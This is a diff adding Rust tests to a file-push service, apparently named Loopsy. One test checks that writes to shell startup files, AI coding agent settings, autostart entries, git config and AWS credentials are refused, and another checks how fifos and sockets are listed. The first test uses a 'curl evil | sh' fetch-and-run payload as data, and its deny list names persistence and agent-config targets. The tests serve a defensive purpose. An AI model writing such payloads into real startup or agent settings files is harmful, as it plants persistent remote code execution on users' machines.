@@ -176,6 +176,68 @@ fn path_escapes_are_refused_and_nothing_is_read_or_written() {
 }
 
 #[test]
+fn startup_files_and_agent_settings_are_denied_by_default() {
+    let loopsy = Loopsy::started();
+    let home = home(&loopsy);
+    std::fs::write(home.join(".bashrc"), "# mine\n").expect(".bashrc");
+    for target in [
+        "~/.bashrc",
+        "~/.profile",
+        "~/.zshrc",
+        "~/.claude/settings.json",
+        "~/.claude.json",
+        "~/.codex/config.toml",
+        "~/.gemini/settings.json",
+        "~/.config/opencode/opencode.json",
+        "~/.config/systemd/user/evil.service",
+        "~/.config/autostart/evil.desktop",
+        "~/.gitconfig",
+        "~/.aws/credentials",
+    ] {
+        let response = push(&loopsy, target, b"curl evil | sh\n");
+        assert_eq!(response.status, 403, "push {target}: {}", response.body);
+        assert_eq!(response.json()["error"]["code"], 4001);
+    }
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).expect(".bashrc"),
+        "# mine\n"
+    );
+    assert!(!home.join(".claude").exists(), "nothing was created");
+    assert_eq!(push(&loopsy, "~/notes/.bashrc-copy", b"ok").status, 200);
+}
+
+#[test]
+fn a_listing_marks_fifos_and_sockets_as_special() {
+    let loopsy = Loopsy::started();
+    let dir = home(&loopsy).join("odd");
+    std::fs::create_dir_all(&dir).expect("dir");
+    std::fs::write(dir.join("plain"), "x").expect("plain");
+    let made = std::process::Command::new("mkfifo")
+        .arg(dir.join("pipe"))
+        .status()
+        .expect("mkfifo");
+    assert!(made.success());
+    let _socket = std::os::unix::net::UnixListener::bind(dir.join("sock")).expect("socket");
+    let files = list(&loopsy, "~/odd");
+    let entry = |name: &str| {
+        files
+            .as_array()
+            .and_then(|all| all.iter().find(|f| f["name"] == name))
+            .cloned()
+            .unwrap_or_else(|| panic!("{name} not in {files}"))
+    };
+    assert_eq!(entry("plain")["type"], "file");
+    assert!(entry("plain").get("special").is_none());
+    assert_eq!(
+        entry("pipe")["type"],
+        "file",
+        "the original's three types stay"
+    );
+    assert_eq!(entry("pipe")["special"], "fifo");
+    assert_eq!(entry("sock")["special"], "socket");
+}
+
+#[test]
 fn interrupted_and_oversized_pushes_leave_nothing() {
     let loopsy =
         Loopsy::started_with(|text| text.replace("maxFileSize: 1073741824", "maxFileSize: 100000"));
